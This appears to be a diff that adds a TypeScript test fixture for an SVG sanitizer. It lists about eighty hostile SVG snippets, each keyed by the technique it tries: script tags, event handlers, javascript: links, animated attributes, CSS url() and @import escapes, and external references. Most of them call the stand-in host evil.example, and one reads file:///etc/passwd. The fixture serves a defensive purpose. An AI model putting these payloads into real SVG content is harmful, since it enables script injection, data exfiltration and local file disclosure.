@@ -1,0 +1,100 @@
+const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
+const HTML = 'http://www.w3.org/1999/xhtml';
+const RUN = "fetch('http://evil.example/ran');document.title='RAN'";
+
+/** What stands inside a drawing that wants to run, load or reach something, by what it tries. */
+export const HOSTILE: Readonly<Record<string, string>> = {
+  script: `<script>${RUN}</script>`,
+  'script in CDATA': `<script><![CDATA[${RUN}]]></script>`,
+  'script from elsewhere': '<script href="http://evil.example/x.js"/>',
+  'script by xlink': `<script ${XLINK} xlink:href="http://evil.example/x.js"/>`,
+  'script by another prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
+  'script of HTML': `<script xmlns="${HTML}">${RUN}</script>`,
+  'script in capitals': `<SCRIPT>${RUN}</SCRIPT>`,
+  'script in metadata': `<metadata><script>${RUN}</script></metadata>`,
+  'script in definitions': `<defs><g><script>${RUN}</script></g></defs>`,
+  'script inside of a style': `<style><script>${RUN}</script></style>`,
+  'script behind the end of a style': `<style>a{}&lt;/style>&lt;script>${RUN}&lt;/script></style>`,
+  'onload of an element': `<g onload="${RUN}"/>`,
+  'onbegin of an animation': `<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`,
+  'onclick in capitals': `<rect ONCLICK="${RUN}" width="9" height="9"/>`,
+  'a handler with a prefix': `<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/>`,
+  handler: `<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript">${RUN}</handler>`,
+  listener: '<listener event="click" handler="#x"/>',
+  foreignObject: `<foreignObject width="9" height="9"><body xmlns="${HTML}" onload="${RUN}"/></foreignObject>`,
+  'a frame in foreignObject': `<foreignObject><iframe xmlns="${HTML}" src="javascript:${RUN}"/></foreignObject>`,
+  'a frame of HTML': `<iframe xmlns="${HTML}" src="javascript:${RUN}"/>`,
+  'a picture of HTML': `<img xmlns="${HTML}" src="x" onerror="${RUN}"/>`,
+  'an object of HTML': `<object xmlns="${HTML}" data="http://evil.example/x.svg"/>`,
+  'a form of HTML': `<form xmlns="${HTML}" action="http://evil.example/"><input/></form>`,
+  'a link that runs': `<a href="javascript:${RUN}"><text>press</text></a>`,
+  'a link by xlink': `<a ${XLINK} xlink:href="javascript:${RUN}"><text>press</text></a>`,
+  'a link with a broken scheme': '<a href="java&#10;script:alert(1)"><text>press</text></a>',
+  'a link elsewhere': '<a href="http://evil.example/"><text>press</text></a>',
+  'a link in a text': '<text>go <a href="http://evil.example/">there</a></text>',
+  'an animation of href': `<a id="l"><animate attributeName="href" values="javascript:${RUN}"/></a>`,
+  'an animation of xlink:href': `<set attributeName="xlink:href" to="javascript:${RUN}"/>`,
+  'an animation of a handler': `<set attributeName="onclick" to="${RUN}"/>`,
+  'an animation of style': '<animate attributeName="style" values="fill:url(http://evil.example/)"/>',
+  'an animation of another': '<animate href="http://evil.example/x.svg#a" attributeName="x" dur="1s"/>',
+  'an animation to an address':
+    '<animate attributeName="fill" values="red;url(http://evil.example/p)" dur="1s"/>',
+  'an animation to an escaped address': '<set attributeName="fill" to="u\\72l(http://evil.example/p)"/>',
+  'use from elsewhere': '<use href="http://evil.example/x.svg#a"/>',
+  'use by xlink': `<use ${XLINK} xlink:href="//evil.example/x.svg#a"/>`,
+  'use of data': '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
+  'use with two targets': `<use ${XLINK} href="http://evil.example/a.svg#a" xlink:href="#a"/>`,
+  'image from elsewhere': '<image href="http://evil.example/x.png" width="9" height="9"/>',
+  'image of a file': '<image href="file:///etc/passwd" width="9" height="9"/>',
+  'image beside': '<image href="secret.png" width="9" height="9"/>',
+  'image of SVG as data': '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
+  'image of HTML as data': '<image href="data:text/html,x" width="9" height="9"/>',
+  'image of a filter': '<filter id="f"><feImage href="http://evil.example/x.png"/></filter>',
+  'a gradient from elsewhere': '<linearGradient id="g" href="http://evil.example/x.svg#g"/>',
+  'a text path from elsewhere': '<text><textPath href="http://evil.example/x.svg#p">way</textPath></text>',
+  'a motion path from elsewhere':
+    '<animateMotion dur="1s"><mpath href="http://evil.example/x.svg#p"/></animateMotion>',
+  'fill from elsewhere': '<rect fill="url(http://evil.example/x.svg#p)" width="9" height="9"/>',
+  'fill by an escape': '<rect fill="u\\72 l(http://evil.example/x.svg#p)" width="9" height="9"/>',
+  'fill by a string': '<rect fill=\'url("http://evil.example/x.svg#p")\' width="9" height="9"/>',
+  'filter from elsewhere': '<g filter="url(//evil.example/x.svg#f)"><rect width="9" height="9"/></g>',
+  'mask from elsewhere': '<g mask="url(x.svg#m)"/>',
+  'cursor from elsewhere': '<g cursor="url(http://evil.example/c.cur), auto"/>',
+  'a marker from elsewhere': '<path d="M0 0h9" marker-end="url( http://evil.example/#m )"/>',
+  'a style with an address':
+    '<rect style="fill:red;background:url(http://evil.example/)" width="9" height="9"/>',
+  'a style with an escape':
+    '<rect style="background:\\75\\72\\6c(http://evil.example/)" width="9" height="9"/>',
+  'a style with a set of images': '<rect style="background:image-set(\'http://evil.example/a.png\' 1x)"/>',
+  'a style with src()': '<rect style="background:src(&quot;http://evil.example/&quot;)"/>',
+  'a style with a variable': '<rect style="--x:url(http://evil.example/);background:var(--x)"/>',
+  'a style with a binding': '<rect style="-moz-binding:url(http://evil.example/x.xml#x)"/>',
+  'an import': '<style>@import "http://evil.example/x.css";</style>',
+  'an import by url': '<style>@import url(http://evil.example/x.css) screen;</style>',
+  'an import by an escape': '<style>@\\69mport "http://evil.example/x.css";</style>',
+  'a font from elsewhere': '<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>',
+  'a rule with an address': '<style>rect{fill:url(http://evil.example/x.svg#p)}</style>',
+  'a rule inside of others': '<style>@media screen{g{rect{fill:url(http://evil.example/x.svg#p)}}}</style>',
+  'a selector that tells': '<style>text[data-x^=a]{background:url(http://evil.example/a)}</style>',
+  'a style in parts': '<style>rect{fill:url(http:/<![CDATA[/evil.example/x)}]]></style>',
+  'a style of a comment': '<style>/*! http://evil.example/ SECRET */rect{fill:red}</style>',
+  'a comment': '<!-- SECRET --><g/>',
+  'an instruction': '<?xml-stylesheet href="http://evil.example/x.css"?><g/>',
+  metadata:
+    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">SECRET</rdf:RDF></metadata>',
+  'notes of a program': '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.example" path="/home/SECRET"/>',
+  'an attribute of a program':
+    '<g xmlns:i="http://inkscape.example" i:export-filename="/home/SECRET/x.png"/>',
+  'an attribute of data': '<g data-author="SECRET"/>',
+  'a video': `<video xmlns="${HTML}" src="http://evil.example/x.mp4"/>`,
+  audio: '<audio href="http://evil.example/x.mp3"/>',
+  view: '<view id="v" viewTarget="http://evil.example/"/>',
+  'a base': '<g xml:base="http://evil.example/"><use href="#a"/></g>',
+  'an address in ping': '<a ping="http://evil.example/" href="#x"><text>press</text></a>',
+};
+
+/** A whole drawing around one of them. */
+export function drawingWith(part: string): string {
+  return `<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect id="a" width="40" height="20" fill="red"/>${part}</svg>`;
+}
